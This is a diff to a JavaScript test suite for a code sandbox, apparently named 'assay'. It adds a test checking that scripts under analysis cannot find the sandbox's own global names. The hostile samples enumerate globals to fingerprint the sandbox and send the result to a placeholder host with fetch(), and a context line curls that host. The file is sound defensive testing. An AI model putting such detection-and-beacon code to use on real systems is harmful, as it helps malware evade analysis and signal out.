@@ -189,6 +189,18 @@ describe('hostile code', () => {
     ['nothing', 'bash', ''],
   ];
 
+  it('leaves scripts no name by which to tell it from Node', async () => {
+    const code = `const own = Object.getOwnPropertyNames(globalThis).filter((name) => /assay|^_[0-9a-f]/i.test(name));
+      const late = () => fetch('${HOST}?' + own.length + typeof __assay + typeof __assayBridge);
+      setTimeout(late, 1);`;
+    const { observations } = await run([
+      unit('a.js', 'javascript', code),
+      unit('b.mjs', 'javascript', `export {};${code}`),
+    ]);
+    const asked = observations.filter(({ kind }) => kind === 'net').map(({ target }) => target);
+    expect(asked).toEqual([`GET ${HOST}?0undefinedundefined`, `GET ${HOST}?0undefinedundefined`]);
+  });
+
   it.each(hostile)('never stops the next unit: %s in %s', async (_, language, code) => {
     const result = await run([unit('a', language, code), unit('b', 'bash', `curl -s ${HOST}`)]);
     expect(result.exercised).toContain('b');
